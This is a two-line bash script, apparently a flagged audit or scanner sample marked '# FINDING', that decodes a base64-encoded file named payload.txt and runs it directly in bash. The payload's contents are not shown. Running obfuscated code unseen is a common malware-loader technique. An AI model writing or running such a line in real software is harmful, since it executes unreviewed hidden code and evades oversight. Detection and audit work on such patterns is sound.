#!/bin/bash
bash <(base64 --decode payload.txt)  # FINDING
